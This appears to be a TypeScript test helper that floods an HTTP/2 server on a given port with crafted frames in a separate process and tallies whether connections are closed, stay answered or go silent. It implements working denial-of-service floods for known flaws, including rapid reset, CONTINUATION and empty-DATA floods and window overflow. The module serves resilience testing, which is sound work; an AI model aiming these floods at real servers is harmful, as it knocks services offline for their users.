import { fork } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import {
  callFields,
  END_HEADERS,
  END_STREAM,
  FRAME,
  fieldBlock,
  frame,
  message,
  openRaw,
  type RawConnection,
  uint32,
} from '../support/h2-frames.js';

/**
 * Floods of HTTP/2 frames, from a process of their own: those who measure what others see must not wait for them.
 */
export interface FloodOrder {
  readonly port: number;
  readonly kind: FloodKind;
  readonly connections: number;
  /** Frames on each connection, at most. */
  readonly most: number;
  /** When to stop at the latest, in ms. */
  readonly endMs: number;
}

/** What became of the connections of a flood. */
export interface FloodOutcome {
  readonly sent: number;
  readonly tookMs: number;
  /** How many connections the server closed, or said GOAWAY on. */
  readonly ended: number;
  /** How many it kept, and answers as before. */
  readonly harmless: number;
  /** How many are open and not answered any more. */
  readonly dumb: number;
  /** How many calls were begun and reset. */
  readonly reset: number;
  readonly goAwayCodes: readonly number[];
}

/** A call that nobody else makes while the floods are on, so that those that ran can be counted; it needs no credential. */
const PATH = '/countersign.v1.TokenService/ListVerificationKeys';
const BLOCK = fieldBlock(callFields(PATH));
const CANCEL = uint32(8);
const MAX_WINDOW = 0x7fff_ffff;

const streamOf = (index: number): number => 1 + 2 * index;

/** The nth part of each flood, and what comes before it. */
const FLOODS = {
  /** Calls begun and reset before their message (rapid reset, CVE-2023-44487). */
  'reset before the message': {
    part: (n: number) =>
      Buffer.concat([
        frame(FRAME.headers, END_HEADERS, streamOf(n), BLOCK),
        frame(FRAME.rstStream, 0, streamOf(n), CANCEL),
      ]),
    resets: true,
  },
  /** Whole calls, reset at once: a handler may have begun. */
  'reset after the message': {
    part: (n: number) =>
      Buffer.concat([
        frame(FRAME.headers, END_HEADERS, streamOf(n), BLOCK),
        frame(FRAME.data, END_STREAM, streamOf(n), message()),
        frame(FRAME.rstStream, 0, streamOf(n), CANCEL),
      ]),
    resets: true,
  },
  /** Whole calls, as many at once as may be, all given up after a while (what Node once ended our process for). */
  'reset while they run': {
    part: (n: number) =>
      Buffer.concat([
        frame(FRAME.headers, END_HEADERS, streamOf(n), BLOCK),
        frame(FRAME.data, END_STREAM, streamOf(n), message()),
      ]),
    later: (n: number) => frame(FRAME.rstStream, 0, streamOf(n), CANCEL),
    resets: true,
  },
  /** Faults of which the server makes the resets itself (CVE-2025-8671): a window is widened by nothing. */
  'server made to reset': {
    part: (n: number) =>
      Buffer.concat([
        frame(FRAME.headers, END_HEADERS, streamOf(n), BLOCK),
        frame(FRAME.windowUpdate, 0, streamOf(n), uint32(0)),
      ]),
    resets: true,
  },
  PING: { part: () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)) },
  SETTINGS: { part: () => frame(FRAME.settings, 0, 0) },
  PRIORITY: { part: (n: number) => frame(FRAME.priority, 0, streamOf(n), Buffer.from([0, 0, 0, 0, 16])) },
  /** Fields that never end (CVE-2024-27983). */
  CONTINUATION: {
    before: frame(FRAME.headers, 0, 1, BLOCK),
    part: (n: number) => frame(FRAME.continuation, 0, 1, fieldBlock([[`x-${n}`, 'x'.repeat(100)]])),
  },
  WINDOW_UPDATE: { part: () => frame(FRAME.windowUpdate, 0, 0, uint32(1)) },
  /** The window of all streams widened beyond what it can be (CVE-2026-21714), once for each connection. */
  'window overflow': { part: () => frame(FRAME.windowUpdate, 0, 0, uint32(MAX_WINDOW)), isOneShot: true },
  /** A message that never comes, in pieces of nothing (CVE-2019-9518). */
  'empty DATA': {
    before: frame(FRAME.headers, END_HEADERS, 1, BLOCK),
    part: () => frame(FRAME.data, 0, 1),
  },
} as const satisfies Record<string, FloodPlan>;

interface FloodPlan {
  readonly before?: Buffer;
  part(n: number): Buffer;
  /** What follows each part a while after. */
  later?(n: number): Buffer;
  /** Whether each part is a call that is reset. */
  readonly resets?: boolean;
  /** Whether it ends a connection at once, so that it takes many connections to be a flood. */
  readonly isOneShot?: boolean;
}

export type FloodKind = keyof typeof FLOODS;

export const FLOOD_KINDS = Object.keys(FLOODS) as readonly FloodKind[];

const PARTS_AT_ONCE = 100;
const LATER_MS = 20;

/** What came back may be underway when the last byte has been said. */
const LAST_WORD_MS = 5000;

async function flood({ port, kind, connections, most, endMs }: FloodOrder): Promise<FloodOutcome> {
  const plan: FloodPlan = FLOODS[kind];
  const began = performance.now();
  const outcome = { sent: 0, ended: 0, harmless: 0, dumb: 0 };
  const goAwayCodes = new Set<number>();

  const onOne = async (parts: number): Promise<void> => {
    const connection = await openRaw(port);
    if (plan.before !== undefined) await connection.say(plan.before);
    for (let n = 0; n < parts && performance.now() - began < endMs; ) {
      const count = Math.min(PARTS_AT_ONCE, parts - n);
      const batch = Array.from({ length: count }, (_, index) => plan.part(n + index));
      if (connection.goAwayCode() !== undefined || !(await connection.say(Buffer.concat(batch)))) break;
      if (plan.later !== undefined) {
        const { later } = plan;
        await new Promise((resolve) => setTimeout(resolve, LATER_MS));
        const followed = Array.from({ length: count }, (_, index) => later(n + index));
        if (!(await connection.say(Buffer.concat(followed)))) break;
      }
      n += count;
      outcome.sent += count;
      // Else what came back is read only once all has been said.
      await new Promise((resolve) => setImmediate(resolve));
    }
    outcome[await fateOf(connection)] += 1;
    const code = connection.goAwayCode();
    if (code !== undefined) goAwayCodes.add(code);
    connection.socket.destroy();
  };
  const caller = async (): Promise<void> => {
    if (plan.isOneShot !== true) return onOne(most);
    for (let n = 0; n < most && performance.now() - began < endMs; n += 1) await onOne(2);
  };
  await Promise.all(Array.from({ length: connections }, caller));
  return {
    ...outcome,
    reset: plan.resets === true ? outcome.sent : 0,
    tookMs: performance.now() - began,
    goAwayCodes: [...goAwayCodes],
  };
}

async function fateOf(connection: RawConnection): Promise<'ended' | 'harmless' | 'dumb'> {
  const isAnswered = await connection.isAnswered(LAST_WORD_MS);
  if (connection.isClosed() || connection.goAwayCode() !== undefined) return 'ended';
  return isAnswered ? 'harmless' : 'dumb';
}

const ME = fileURLToPath(import.meta.url);

/** Floods as ordered, in a process of its own. */
export function floodFrames(order: FloodOrder): Promise<FloodOutcome> {
  return new Promise((resolve, reject) => {
    const child = fork(ME, [JSON.stringify(order)], { execArgv: ['--import=tsx'] });
    child.once('message', (outcome) => resolve(outcome as FloodOutcome));
    child.once('exit', (code) => reject(new Error(`the flooder ended with ${code}`)));
  });
}

if (process.argv[1] === ME) {
  const outcome = await flood(JSON.parse(process.argv[2] ?? '') as FloodOrder);
  process.send?.(outcome, () => process.exit());
}
